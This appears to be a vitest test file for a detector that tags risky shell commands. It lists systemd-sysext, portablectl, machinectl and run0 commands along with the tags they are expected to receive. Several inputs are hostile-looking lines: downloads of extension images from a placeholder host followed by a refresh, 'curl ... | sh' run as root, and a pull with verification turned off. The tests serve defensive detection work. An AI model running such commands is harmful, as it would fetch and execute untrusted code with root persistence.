import { expect, test } from "vitest";
import { followShell, kinds } from "./support.test-support.ts";

const RAW = "/var/lib/extensions/x.raw";

test.each([
  [
    `curl -o ${RAW} http://192.0.2.7/x && systemd-sysext refresh`,
    "fetch fetch-to-interpreter writes-autostart",
  ],
  [`curl -o ${RAW} http://192.0.2.7/x && systemd-sysext status`, "fetch writes-autostart"],
  ["curl -o /srv/x.raw http://192.0.2.7/x && systemd-sysext refresh", "fetch"],
  ["systemd-confext merge", ""],
  ["portablectl attach --now /var/tmp/.x/a.raw", "volatile-path"],
  ["portablectl attach --now app", ""],
  ["portablectl detach /var/tmp/a.raw", ""],
  ["machinectl pull-tar --verify=no https://example.test/x.tar m", "fetch-to-interpreter"],
  ["machinectl pull-tar https://example.test/x.tar m", ""],
  ["machinectl shell root@.host /bin/sh -c 'curl http://192.0.2.7/x | sh'", "fetch fetch-to-interpreter"],
  ["machinectl shell build /bin/sh -c 'curl http://192.0.2.7/x | sh'", "container-run"],
  ["run0 --user=root sh -c 'curl http://192.0.2.7/x | sh'", "fetch fetch-to-interpreter"],
])("%s", (code, expected) => {
  expect(kinds(followShell(code)).join(" ")).toBe(expected);
});
